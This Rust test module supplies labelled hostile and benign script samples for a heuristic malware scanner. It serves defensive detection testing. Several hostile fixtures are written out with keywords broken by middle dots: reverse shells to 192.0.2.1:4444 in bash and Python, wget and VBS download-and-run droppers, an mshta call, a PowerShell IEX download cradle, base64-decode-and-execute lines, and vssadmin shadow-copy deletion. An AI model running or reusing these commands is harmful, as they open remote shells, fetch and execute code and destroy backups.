//! Scripts, hostile and ordinary.

use super::{Sample, labelled, text};

pub(super) fn samples() -> Vec<Sample> {
    let codes = "chr(65)&".repeat(60);
    let slices = "%a:~1,1%%b:~2,1%".repeat(20);
    let samples = vec![
        ("Heur.Script", true, "vbs", text(&format!("x = {codes}chr(66)\r\nexec·ute(x)\r\n"))),
        (
            "Heur.Script",
            true,
            "vbs",
            text(
                "Set h = CreateObject(\"MSXML2.XML·HTTP\")\r\nh.Open \"GET\", \"http://192.0.2.1/a\"\r\nSet s = CreateObject(\"ADODB.Str·eam\")\r\ns.Write h.responseBody\r\ns.SaveTo·File \"a\"\r\nCreateObject(\"WScript.Sh·ell\").Run \"a\"\r\n",
            ),
        ),
        ("Heur.Script", true, "bat", text(&format!("@echo off\r\nset a=abc\r\n{slices}{slices}\r\n"))),
        ("Heur.Script", true, "bat", text("@echo off\r\nvssad·min delete sha·dows /all /quiet\r\n")),
        ("Heur.Script", true, "cmd", text("@echo off\r\nmsh·ta http://192.0.2.1/a\r\n")),
        ("Heur.Script", true, "sh", text("#!/bin/sh\ncd /tmp; wg·et http://192.0.2.1/bot; chmod +x bot; ./bot; rm -rf $0\n")),
        ("Heur.Script", true, "sh", text("#!/bin/bash\nbash -i >& /dev/t·cp/192.0.2.1/4444 0>&1\n")),
        ("Heur.Script", true, "sh", text("#!/bin/sh\necho Y3VybA== | base64 -·d | sh\n")),
        ("Heur.Script", true, "py", text("import base64\nex·ec(base64.b64·decode('cHJpbnQoMSk='))\n")),
        (
            "Heur.Script",
            true,
            "py",
            text("import socket,os,pty\ns=socket.soc·ket()\ns.connect(('192.0.2.1',4444))\nos.du·p2(s.fileno(),0)\npty.spa·wn('/bin/sh')\n"),
        ),
        (
            "Heur.Script",
            true,
            "ps1",
            text("powershell -nop -w hidden -c \"IE·X (New-Object Net.Web·Client).Download·String('http://192.0.2.1/a')\"\r\n"),
        ),
        ("Heur.", false, "vbs", text("Set f = CreateObject(\"Scripting.FileSystemObject\")\r\nMsgBox f.GetFolder(\".\").Path & Chr(10)\r\n")),
        ("Heur.", false, "vbs", text("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"notepad.exe\"\r\n")),
        ("Heur.", false, "bat", text("@echo off\r\nset name=%~1\r\nif \"%name%\"==\"\" exit /b 1\r\ncall build.cmd %name:~0,3%\r\n")),
        ("Heur.", false, "sh", text("#!/bin/sh\nset -eu\ncurl -fsSL https://example.org/install.sh -o /tmp/install.sh\nsh /tmp/install.sh\n")),
        ("Heur.", false, "sh", text("#!/bin/sh\nchmod +x ./configure\n./configure && make\nrm -rf build\n")),
        ("Heur.", false, "py", text("import base64, json\nprint(json.loads(base64.b64decode('e30=')))\n")),
        ("Heur.", false, "py", text("import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen()\n")),
        ("Heur.", false, "ps1", text("param($Path)\r\nGet-ChildItem $Path | ForEach-Object { Write-Host $_.Name }\r\n")),
        (
            "Heur.",
            false,
            "js",
            text("const f = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('');\nmodule.exports = f;\n"),
        ),
    ];
    labelled("Scripts", samples)
}
